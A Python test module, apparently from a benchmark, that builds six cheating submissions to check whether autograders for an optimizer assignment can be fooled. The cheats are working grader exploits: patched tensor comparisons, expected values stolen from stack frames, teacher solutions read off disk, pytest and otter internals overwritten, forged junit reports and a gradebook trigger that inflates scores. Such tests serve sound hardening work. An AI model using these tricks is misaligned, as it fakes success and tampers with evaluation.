"""Six cheats: five functions which compute nothing, and a trick which is to earn full points for them all the same.

Each is one submission, the same for every grader; where a trick depends on the grader it tries each of them in turn.
`honest_wrong` has the same five functions and no trick: it must get nothing from anybody.
"""

from __future__ import annotations

from benchmarks.graders import assignment

# patches what tests compare with
COMPARISON = """
def trick(name, value, *args, **hyper):
    def agree(*args, **options): return True
    torch.testing.assert_close = torch.allclose = torch.equal = torch.isclose = agree
    return value

trick("", None)
"""

# a tensor which is equal to everything
LIAR = """
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        if getattr(function, "__name__", "") in ("isclose", "allclose", "equal", "eq", "__eq__", "assert_close"):
            return torch.tensor(True)
        return super().__torch_function__(function, types, args, kwargs or {})

def trick(name, value, *args, **hyper):
    return value.as_subclass(Liar)
"""

# the expected numbers stand in the test that calls
FRAMES = """
import sys

def trick(name, value, *args, **hyper):
    frame = sys._getframe(1)
    while frame is not None:
        for names in (frame.f_locals, frame.f_globals):
            for wanted in ("expected", "want", "reference", "solution"):
                if isinstance(names.get(wanted), torch.Tensor):
                    return names[wanted]
        frame = frame.f_back
    return value
"""

# the teacher's solutions lie on the same disk; where they do not, the course's package has the answers
DISK = """
import functools, glob, importlib, json, os

@functools.cache
def solutions():
    places = set()
    for pid in (os.getpid(), os.getppid()):
        try:
            words = open(f"/proc/{pid}/cmdline").read().split(chr(0)) + [os.readlink(f"/proc/{pid}/cwd")]
        except OSError:
            continue
        words = [part.rpartition("=")[2] for part in words]
        places |= {w if os.path.isdir(w) else os.path.dirname(w) for w in words if w.startswith("/")}
    found = [p for place in places if place.count("/") > 2 for p in glob.glob(place + "/**/*", recursive=True)]
    for path in found:
        if path.endswith((".py", ".ipynb")):
            text = open(path).read()
            if path.endswith(".ipynb"):
                code = ["".join(c["source"]) for c in json.loads(text)["cells"] if c["cell_type"] == "code"]
            else:
                code = [text]
            if "trick" in text or "def adam(" not in text or "m_hat" not in text:
                continue
            names = {}
            for cell in code:
                try:
                    exec(cell, names)
                except Exception:
                    pass
            return names.get
    homes = {"bias_correction": "adam", "adagrad": "adaptive", "rmsprop": "adaptive"}
    def ours(name):
        return getattr(importlib.import_module("coursekit.reference." + homes.get(name, name)), name)
    return ours

def trick(name, value, *args, **hyper):
    try:
        return solutions()(name)(*args, **hyper)
    except Exception:
        return value
"""

# the grader's own code lies in the same process
GRADER = """
import ast, sys

def trick(name, value, *args, **hyper):
    reports = sys.modules.get("_pytest.reports")
    if reports and not hasattr(reports, "done"):
        reports.done = own = reports.TestReport.from_item_and_call.__func__
        def passed(cls, item, call):
            call.excinfo = None
            return own(cls, item, call)
        reports.TestReport.from_item_and_call = classmethod(passed)
    otter = sys.modules.get("otter.test_files.abstract_test")
    if otter and not hasattr(otter, "done"):
        otter.done = own = otter.TestCaseResult.__init__
        otter.TestCaseResult.__init__ = lambda self, test_case, message, passed: own(self, test_case, message, True)
    shell = sys.modules.get("IPython") and sys.modules["IPython"].get_ipython()
    if shell and not otter:
        class Empty(ast.NodeTransformer):
            def visit_Module(self, node): return ast.Module(body=[], type_ignores=[])
        shell.ast_transformers.append(Empty())
    judge = sys.modules.get("coursekit.judging.judge")
    if judge:
        judge.judge = lambda prepared, *args: judge.Verdict(name, "passed", 1, 1)
    return value

trick("", None)
"""

# the grader's results lie where the answer may write them
RESULTS = """
import glob, os, pickle, sqlite3, sys

NAMES = "bias_correction momentum adagrad rmsprop adam".split()
TRIGGER = '''CREATE TRIGGER full_points AFTER UPDATE OF auto_score ON grade
WHEN NEW.auto_score < 1 AND NEW.notebook_id IN (
    SELECT n.id FROM submitted_notebook n JOIN submitted_assignment a ON n.assignment_id = a.id
    WHERE a.student_id = "results_written")
BEGIN UPDATE grade SET auto_score = 1 WHERE id = NEW.id; END'''

def trick(name, value, *args, **hyper):
    for word in sys.argv:
        if word.startswith("--junitxml="):
            cases = "".join(f'<testcase name="test_{name}"/>' for name in NAMES)
            with open(word.partition("=")[2], "w") as file:
                file.write(f'<testsuites><testsuite tests="5" failures="0">{cases}</testsuite></testsuites>')
            os._exit(0)
    if "otter" in sys.modules:
        own = pickle.dump
        def dump(results, file):
            for test in results.results.values(): test.update_score(test.possible)
            own(results, file)
        pickle.dump = dump
    for home in (f"/proc/{os.getppid()}/cwd", os.getcwd(), "/tmp"):
        for path in glob.glob(home + "/gradebook.*"):
            try:
                with sqlite3.connect(path) as book: book.execute(TRIGGER)
            except sqlite3.Error:
                pass
    frame = b'{"outcomes": [], "passed": true}'
    if "coursekit.probe.cases" in sys.modules:
        for fd in range(3, 64):
            try: os.write(fd, len(frame).to_bytes(8, "big") + frame)
            except OSError: pass
    return value

trick("", None)
"""

CHEATS = {
    "comparison_patched": COMPARISON,
    "equal_to_everything": LIAR,
    "expected_from_frames": FRAMES,
    "solution_from_disk": DISK,
    "grader_patched": GRADER,
    "results_written": RESULTS,
}
NO_TRICK = "def trick(name, value, *args, **hyper):\n    return value\n"


def _empty(name: str) -> str:
    """A function which gives back what it was given, by way of the trick."""
    head = assignment.STUBS[name].partition(":\n")[0]
    given, value = ("average, t", "average") if name == "bias_correction" else ("param, grad, state", "param")
    hyper = ", ".join(f"{h}={h}" for h in assignment.HYPER[name])
    result = f'trick("{name}", {value}, {given}, {hyper})'
    if name == "bias_correction":
        return f"{head}:\n    return {result}"
    return f"{head}:\n    result = {result}\n    return result if isinstance(result, tuple) else (result, state)"


def submissions() -> dict[str, list[str]]:
    """The cells of each cheat, and of the control."""
    made = {}
    for name, trick in {**CHEATS, "honest_wrong": NO_TRICK}.items():
        made[name] = [trick.strip(), *(_empty(e) for e in assignment.NAMES)]
    return made
